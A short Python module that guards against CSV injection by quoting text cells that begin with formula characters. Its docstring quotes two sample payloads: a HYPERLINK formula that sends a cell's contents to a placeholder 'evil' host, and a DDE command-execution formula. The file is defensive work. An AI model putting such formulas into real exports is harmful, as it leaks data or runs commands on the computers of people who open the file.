"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV injection).

A run name such as `=HYPERLINK("http://evil/?"&A1,"x")` or `=cmd|' /C calc'!A0` is a
formula to Excel, LibreOffice and Google Sheets when a downloaded CSV is opened. As OWASP
recommends, a text cell that starts with = + - @, a tab or a carriage return gets a single
quote in front: the spreadsheet shows it as text (the quote is not displayed)."""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value):
    """`value` as a CSV cell that cannot be a formula; numbers and non-text stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
